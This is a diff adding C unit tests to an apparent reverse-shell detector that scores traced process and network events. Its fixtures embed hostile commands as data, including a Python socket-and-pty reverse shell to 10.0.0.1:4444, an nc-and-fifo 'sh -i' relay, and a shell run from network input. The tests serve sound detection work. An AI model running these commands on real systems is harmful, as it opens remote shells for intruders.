@@ -5,6 +5,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <unistd.h>
+#include "baseline.h"
 #include "interp.h"
 #include "judge.h"
 #include "score.h"
@@ -512,6 +513,146 @@ static void test_command_from_network(void)
 	judge_free(j);
 }
 
+/* The creator of a shell's pipes holds them, whatever its fds: a grandparent that connected and
+ * made the pipes is the relay, though the parent in between holds nothing. */
+static void test_pipe_owner_relay(void)
+{
+	struct judge *j = fresh(false);
+
+	feed(j, "execve pid=920 ppid=1 t=1 comm=python3 exe=/usr/bin/python3 argv=\"python3 x.py\" fd0=tty fd1=tty fd2=tty => 0\n"
+		"connect pid=920 ppid=1 t=2 fd=3 family=inet addr=198.51.100.4 port=4444 => 0\n"
+		"fork pid=920 ppid=1 t=3 child=921\n"
+		"execve pid=921 ppid=920 t=4 comm=sh exe=/bin/sh argv=\"sh -c sh -i\" fd0=pipe fd1=pipe fd2=pipe pipe0=13:80 pipe1=13:81 pipe2=13:81 owner0=920 owner1=920 owner2=920 => 0\n"
+		"fork pid=921 ppid=920 t=5 child=922\n"
+		"execve pid=922 ppid=921 t=6 comm=sh exe=/bin/sh argv=\"sh -i\" fd0=pipe fd1=pipe fd2=pipe pipe0=13:80 pipe1=13:81 pipe2=13:81 owner0=920 owner1=920 owner2=920 => 0\n");
+	CHECKF(ngot == 1 && got[0].pid == 922 && got[0].severity == SEV_HIGH &&
+	       (got[0].signals & SIG_PIPE_RELAY) && got[0].peer.pport == 4444, "%u alerts", ngot);
+	judge_free(j);
+}
+
+/* node's spawn('/bin/sh') runs the shell on socketpairs first and connects after: the connection
+ * of the pairs' creator completes the relay then. A CGI script on the pipes of a server holding
+ * a connection reads data, not commands: nothing. */
+static void test_owner_connects_later(void)
+{
+	struct judge *j = fresh(false);
+
+	feed(j, "execve pid=930 ppid=1 t=1 comm=node exe=/usr/bin/node argv=\"node x.js\" fd0=tty fd1=tty fd2=tty => 0\n"
+		"fork pid=930 ppid=1 t=2 child=931\n"
+		"execve pid=931 ppid=930 t=3 comm=sh exe=/bin/sh argv=/bin/sh fd0=sock:unix fd1=sock:unix fd2=sock:unix owner0=930 owner1=930 owner2=930 => 0\n");
+	CHECKF(ngot == 0, "%u alerts before the connection", ngot);
+	feed(j, "connect pid=930 ppid=1 t=4 fd=20 family=inet addr=198.51.100.4 port=4444 => -115\n");
+	judge_finish(j);
+	CHECKF(ngot == 1 && got[0].pid == 931 && got[0].severity == SEV_HIGH &&
+	       (got[0].signals & SIG_PIPE_RELAY) && got[0].peer.pport == 4444, "%u alerts", ngot);
+	judge_free(j);
+
+	j = fresh(false);
+	feed(j, "execve pid=940 ppid=1 t=1 comm=httpd exe=/usr/sbin/httpd argv=httpd fd0=tty fd1=tty fd2=tty => 0\n"
+		"accept4 pid=940 ppid=1 t=2 fd=3 family=inet addr=198.51.100.9 port=50000 => 7\n"
+		"fork pid=940 ppid=1 t=3 child=941\n"
+		"execve pid=941 ppid=940 t=4 comm=sh exe=/bin/sh argv=\"/bin/sh /usr/lib/cgi-bin/a.sh\" fd0=pipe fd1=pipe fd2=pipe pipe0=13:90 pipe1=13:91 pipe2=13:91 owner0=940 owner1=940 owner2=940 => 0\n"
+		"accept4 pid=940 ppid=1 t=5 fd=3 family=inet addr=198.51.100.9 port=50001 => 8\n");
+	judge_finish(j);
+	CHECKF(ngot == 0 || got[0].severity < SEV_HIGH, "%u alerts", ngot);
+	judge_free(j);
+}
+
+/* busybox's applets re-exec /proc/self/exe with the applet's name as argv[0] (a container's
+ * busybox is not the host's file, so no inode says what it is): `sh -i` through a fifo and nc is
+ * still a shell. */
+static void test_exec_through_proc_self_exe(void)
+{
+	struct judge *j = fresh(false);
+
+	feed(j, "execve pid=950 ppid=1 t=1 comm=sh exe=/bin/sh argv=\"sh -c x\" fd0=other fd1=pipe fd2=pipe pipe1=15:1 pipe2=15:2 => 0\n"
+		"execve pid=952 ppid=950 t=3 comm=exe exe=/proc/self/exe argv=\"nc 10.88.0.1 5000\" fd0=pipe fd1=fifo fd2=pipe pipe0=15:10 pipe1=52:99 pipe2=15:2 => 0\n"
+		"execve pid=951 ppid=950 t=4 comm=exe exe=/proc/self/exe argv=\"sh -i\" fd0=fifo fd1=pipe fd2=pipe pipe0=52:99 pipe1=15:10 pipe2=15:10 => 0\n"
+		"connect pid=952 ppid=950 t=5 fd=3 family=inet addr=10.88.0.1 port=5000 => 0\n");
+	judge_finish(j);
+	CHECKF(ngot == 1 && got[0].pid == 951 && got[0].severity == SEV_HIGH &&
+	       !strcmp(got[0].interp, "sh"), "%u alerts, interp '%s'", ngot, ngot ? got[0].interp : "");
+	judge_free(j);
+}
+
+/* run --baseline: an exec unlike what its interpreter runs on this host is an anomaly: low alone
+ * (held like a score-only alert), medium with a network fact of the exec, never high on its own;
+ * a line like the ones learnt is none. The baseline is learnt here from a host's python lines. */
+static struct baseline *python_baseline(void)
+{
+	static const char *const forms[][2] = {   /* prefix, a number, suffix */
+		{ "python3 -c 'import sys; print(sys.argv[", "])'" },
+		{ "python3 /usr/bin/app-check --id ", "" },
+		{ "python3 -c 'import json,sys; print(json.load(sys.stdin)[", "])'" },
+		{ "python3 -m pip list --path /opt/v", "" },
+	};
+	struct baseline_opts bo = baseline_opts_default();
+	struct baseline_learner *l = baseline_learner_new(&bo, NULL, 0);
+	char line[128];
+	struct bl_cmd c;
+
+	for (unsigned i = 0; l && i < 200; i++) {
+		snprintf(line, sizeof(line), "%s%u%s", forms[i % 4][0], i % 10, forms[i % 4][1]);
+		bl_cmd_from_line(&c, line, strlen(line));
+		baseline_learner_add(l, &c);
+	}
+	return l ? baseline_learner_finish(l) : NULL;
+}
+
+static void test_anomaly(void)
+{
+	static struct ruleset rs;
+	struct baseline *b = python_baseline();
+	struct judge_opts o = judge_opts_default();
+	char err[256];
+	struct judge *j;
+
+	CHECK(b != NULL && (rs.nrules || !rules_load_default(&rs, err, sizeof(err))));
+	o.rules = &rs, o.on_alert = collect, o.min_severity = SEV_LOW, o.baseline = b;
+	ngot = 0;
+	j = judge_new(&o);
+	feed(j, "execve pid=600 ppid=1 t=1000 comm=python3 exe=/usr/bin/python3 argv=\"python3 -c import sys; print(sys.argv[3])\" fd0=tty fd1=tty fd2=tty => 0\n"
+		"execve pid=601 ppid=1 t=2000 comm=python3 exe=/usr/bin/python3 argv=\"python3 -c import socket,os,pty;s=socket.socket();s.connect((\\\"10.0.0.1\\\",4444));pty.spawn(\\\"/bin/sh\\\")\" fd0=tty fd1=tty fd2=tty => 0\n");
+	CHECKF(ngot == 0, "%u alerts before the hold ran out", ngot);
+	judge_tick(j, 1000000000ull);
+	CHECKF(ngot == 1 && got[0].pid == 601 && got[0].severity == SEV_LOW &&
+	       got[0].signals == (SIG_INTERPRETER | SIG_ANOMALY), "%u alerts, signals %x", ngot,
+	       ngot ? got[0].signals : 0);
+	/* an accepted connection on the stdio of python running its own code: what servers do, no
+	 * alert; with an anomalous command line, one level more: medium, not high */
+	feed(j, "execve pid=602 ppid=1 t=2000000000 comm=python3 exe=/usr/bin/python3 argv=\"python3 -m pip list --path /opt/v3\" fd0=sock:inet fd1=sock:inet fd2=tty peer0=10.1.2.3:50000 local0=10.0.0.2:8080 peer1=10.1.2.3:50000 local1=10.0.0.2:8080 => 0\n"
+		"execve pid=603 ppid=1 t=2000001000 comm=python3 exe=/usr/bin/python3 argv=\"python3 -c import os; os.system(input())\" fd0=sock:inet fd1=sock:inet fd2=tty peer0=10.1.2.3:50001 local0=10.0.0.2:8080 peer1=10.1.2.3:50001 local1=10.0.0.2:8080 => 0\n");
+	judge_tick(j, 4000000000ull);
+	CHECKF(ngot == 2 && got[1].pid == 603 && got[1].severity == SEV_MEDIUM &&
+	       (got[1].signals & (SIG_STDIO_SOCKET | SIG_ANOMALY)) == (SIG_STDIO_SOCKET | SIG_ANOMALY),
+	       "%u alerts", ngot);
+	judge_free(j);
+	baseline_free(b);
+}
+
+/* A live source may hand an exec on before the fork that made the process (execs have a ring of
+ * their own): the fork must not overwrite what the exec said. */
+static void test_fork_after_exec(void)
+{
+	struct judge *j = fresh(false);
+
+	feed(j, "execve pid=931 ppid=930 t=20 comm=sh exe=/bin/sh argv=\"sh -i\" fd0=sock:inet fd1=sock:inet peer0=192.0.2.1:443 local0=10.0.0.2:40000 peer1=192.0.2.1:443 local1=10.0.0.2:40000 => 0\n"
+		"fork pid=930 ppid=1 t=10 child=931\n"
+		"fork pid=931 ppid=930 t=30 child=932\n"
+		"execve pid=932 ppid=931 t=40 comm=id exe=/usr/bin/id argv=id fd0=sock:inet fd1=sock:inet peer0=192.0.2.1:443 local0=10.0.0.2:40000 peer1=192.0.2.1:443 local1=10.0.0.2:40000 => 0\n");
+	CHECKF(ngot == 1 && got[0].pid == 931, "%u alerts", ngot);   /* id merged into the shell */
+	judge_free(j);
+	/* the child's exec before its own fork: still the shell's tree, one alert */
+	j = fresh(false);
+	feed(j, "fork pid=930 ppid=1 t=10 child=931\n"
+		"execve pid=931 ppid=930 t=20 comm=sh exe=/bin/sh argv=\"sh -i\" fd0=sock:inet fd1=sock:inet peer0=192.0.2.1:443 local0=10.0.0.2:40000 peer1=192.0.2.1:443 local1=10.0.0.2:40000 => 0\n"
+		"execve pid=932 ppid=931 t=40 comm=id exe=/usr/bin/id argv=id fd0=sock:inet fd1=sock:inet peer0=192.0.2.1:443 local0=10.0.0.2:40000 peer1=192.0.2.1:443 local1=10.0.0.2:40000 => 0\n"
+		"fork pid=931 ppid=930 t=30 child=932\n");
+	judge_finish(j);
+	CHECKF(ngot == 1 && got[0].pid == 931, "%u alerts", ngot);
+	judge_free(j);
+}
+
 /* Documentation and table agree: docs/run.md has every signal row the table prints. */
 static void test_signal_docs(void)
 {
@@ -558,6 +699,11 @@ int main(void)
 	RUN(test_medium);
 	RUN(test_exceptions);
 	RUN(test_command_from_network);
+	RUN(test_pipe_owner_relay);
+	RUN(test_fork_after_exec);
+	RUN(test_owner_connects_later);
+	RUN(test_exec_through_proc_self_exe);
+	RUN(test_anomaly);
 	RUN(test_signal_docs);
 	return tap_done();
 }
